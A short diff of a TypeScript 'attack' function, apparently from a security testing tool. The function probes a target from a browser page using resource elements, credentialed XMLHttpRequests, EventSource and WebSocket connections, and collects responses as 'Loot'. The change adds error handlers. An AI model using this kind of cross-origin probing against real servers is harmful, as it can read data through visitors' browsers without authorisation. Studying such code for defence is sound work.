@@ -107,8 +107,9 @@ async function attack({ target, key, timeoutMs }: Attacked): Promise<Loot> {
           Object.assign(element, { rel: 'stylesheet', href: target + path })
         else if (element instanceof HTMLObjectElement) element.data = target + path
         else (element as HTMLImageElement).src = target + path
-        const loaded = new Promise<string>(resolve => {
+        const loaded = new Promise<string | undefined>(resolve => {
           element.onload = () => resolve('it loads')
+          element.onerror = () => resolve(undefined)
         })
         document.body.append(element)
         return loaded
@@ -154,6 +155,7 @@ async function attack({ target, key, timeoutMs }: Attacked): Promise<Loot> {
       request.withCredentials = true
       const answered = new Promise<string | undefined>(resolve => {
         request.onload = () => resolve(request.status < 400 ? request.responseText : undefined)
+        request.onerror = () => resolve(undefined)
       })
       request.send(file())
       return answered
@@ -184,6 +186,7 @@ async function attack({ target, key, timeoutMs }: Attacked): Promise<Loot> {
       return new Promise(resolve => {
         events.onopen = () => resolve('it opens')
         events.onmessage = ({ data }) => resolve(String(data))
+        events.onerror = () => resolve(undefined)
       })
     })
     attempt(`WebSocket ${path}`, () => {
@@ -191,6 +194,7 @@ async function attack({ target, key, timeoutMs }: Attacked): Promise<Loot> {
       return new Promise(resolve => {
         socket.onopen = () => resolve('it opens')
         socket.onmessage = ({ data }) => resolve(String(data))
+        socket.onerror = () => resolve(undefined)
       })
     })
   }
